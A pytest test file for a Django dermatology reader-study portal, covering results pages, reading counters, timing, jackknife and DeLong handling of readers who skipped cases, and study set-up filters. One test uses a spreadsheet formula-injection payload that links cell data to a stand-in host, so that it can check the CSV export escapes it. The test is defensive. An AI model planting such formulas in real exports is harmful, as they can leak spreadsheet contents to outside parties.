"""Results-page and set-up bugs: multi-class results, the reading counter, served_at, readers who
skipped cases (jackknife, mean reader), formula-escaped CSV, set-up case filters and messages."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from derm_portal import roles
from reports import results, services
from reports.models import Reading, StudyCase
from tests.reports.test_study_flow import (
    build_study,
    make_confirmed_case,
    make_model_version,
    read_all,
)

TRUTHS = ("mel", "mel", "mel", "nv", "nv", "nv", "bkl", "bkl")


def test_multiclass_results_page_renders_without_model_or_confidence(client, taxonomy, users, make_user):
    r2 = make_user(roles.READER, username="r2")
    study, cases = build_study(
        users=users,
        taxonomy=taxonomy,
        truths=TRUTHS,
        question_type="multiclass",
        positive=(),
        confidence="none",
        model=False,
        readers=[(users[roles.READER], "resident"), (r2, "expert")],
    )
    read_all(study, users[roles.READER], {c.external_id: "mel" for c in cases})
    read_all(study, r2, {c.external_id: t for c, t in zip(cases, TRUTHS)})
    client.force_login(users[roles.COORDINATOR])
    page = client.get(f"/studies/{study.pk}/results/")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'id="class-table"' in html and "One-vs-rest summary" in html


def test_reading_counter_counts_answers_not_answers_times_cases(client, taxonomy, users):
    study, _ = build_study(users=users, taxonomy=taxonomy, truths=TRUTHS, aided=True)
    reader = users[roles.READER]
    sr = study.readers.get(user=reader)
    for sc in StudyCase.objects.filter(study=study).order_by("number")[:5]:
        services.reading_serve(study_reader=sr, study_case=sc, session="unaided")
        services.reading_submit(study_reader=sr, study_case=sc, session="unaided", answer="pos", confidence=3)
    client.force_login(reader)
    html = client.get("/reading/").content.decode()
    assert "5 / 8 cases" in html and "aided 0 / 8" in html


def test_served_at_is_when_served_not_when_answered(taxonomy, users):
    study, _ = build_study(users=users, taxonomy=taxonomy, truths=TRUTHS)
    sr = study.readers.get(user=users[roles.READER])
    sc = StudyCase.objects.filter(study=study).first()
    r = services.reading_serve(study_reader=sr, study_case=sc, session="unaided")
    served = timezone.now() - timedelta(seconds=30)
    Reading.objects.filter(pk=r.pk).update(served_at=served)
    r = services.reading_submit(study_reader=sr, study_case=sc, session="unaided", answer="pos", confidence=3)
    r.refresh_from_db()
    assert r.served_at == served and r.answered_at > served
    assert 29000 <= r.server_ms < 40000


def test_readers_who_skipped_cases_are_kept_by_the_jackknife(taxonomy, users, make_user):
    r2 = make_user(roles.READER, username="r2")
    study, cases = build_study(
        users=users,
        taxonomy=taxonomy,
        truths=TRUTHS,
        confidence="none",
        readers=[(users[roles.READER], "resident"), (r2, "expert")],
    )
    read_all(
        study,
        users[roles.READER],
        {c.external_id: ("pos" if t == "mel" or i == 4 else "neg") for i, (c, t) in enumerate(zip(cases, TRUTHS))},
    )
    sr2 = study.readers.get(user=r2)
    order = list(StudyCase.objects.filter(study=study).select_related("case").order_by("number"))
    for sc in order[:-1]:  # r2 skips one case
        services.reading_serve(study_reader=sr2, study_case=sc, session="unaided")
        services.reading_submit(
            study_reader=sr2,
            study_case=sc,
            session="unaided",
            answer="pos" if sc.case.external_id in ("EXT-000", "EXT-001", "EXT-006") else "neg",
        )
    study.refresh_from_db()
    res = results.reader_study_results(study=study, use_cache=False)
    t = res["tasks"][0]
    assert t["covariance"] == "jackknife" and t["mrmc"]["n_readers"] == 2
    assert (
        t["mean_reader"]["n_readers"] == 2 and "have not read every case and are included" in t["mrmc"]["missing_note"]
    )
    assert t["fair"]["readers_specificity"]["estimate"] == pytest.approx(t["mean_reader"]["specificity"])
    # DeLong asked for: the unfinished reader is left out of the analysis and of the mean reader alike
    res_d = results.reader_study_results(study=study, use_cache=False, method="delong")
    t = res_d["tasks"][0]
    assert t["mrmc"]["n_readers"] == 1 and t["mean_reader"]["n_readers"] == 1
    assert "left out of the analysis and of the mean reader" in t["missing_note"]
    # non-inferiority with a margin
    res_m = results.reader_study_results(study=study, use_cache=False, margin=0.1)
    ni = res_m["tasks"][0]["mrmc"]["non_inferiority"]
    assert ni["margin"] == 0.1 and ni["non_inferior"] == (ni["lower_bound"] > -0.1)


def test_readings_csv_escapes_every_user_written_cell(client, taxonomy, users):
    study, cases = build_study(users=users, taxonomy=taxonomy, truths=TRUTHS)
    evil = '=HYPERLINK("http://x.example/?"&A1,"Click")'
    read_all(study, users[roles.READER], {c.external_id: "pos" for c in cases}, comment=evil)
    client.force_login(users[roles.COORDINATOR])
    rows = list(csv.DictReader(io.StringIO(client.get(f"/studies/{study.pk}/readings.csv").content.decode())))
    assert len(rows) == len(TRUTHS)
    assert all(r["comment"] == "'" + evil for r in rows)
    for r in rows:
        for k, v in r.items():
            assert not v or v[0] not in "=+@", (k, v)


def test_setup_keeps_cases_created_after_the_model_and_explains_short_samples(client, taxonomy, users):
    derm, coord = users[roles.DERMATOLOGIST], users[roles.COORDINATOR]
    mv = make_model_version(taxonomy, manifest={"split": {"test_cases": ["OLD-1"]}})
    for i in range(3):  # created after the model: cannot have been trained on
        make_confirmed_case(sub_code="mel" if i else "nv", taxonomy=taxonomy, by=derm, i=i, external_id=f"NEW-{i}")
    study = services.study_create(
        title="S", taxonomy=taxonomy, created_by=coord, positive_codes=["mel"], model_version=mv
    )
    client.force_login(coord)
    page = client.post(
        f"/studies/{study.pk}/", {"action": "add_cases", "exclude_training": "on", "n": "5"}, follow=True
    )
    html = page.content.decode()
    assert "3 case(s) added" in html
    assert "5 asked for, but only 3 eligible case(s) match the filters" in html
    assert set(study.study_cases.values_list("in_training", flat=True)) == {"no"}
    assert 'id="planning-table"' in html and "Van Dyke" in html
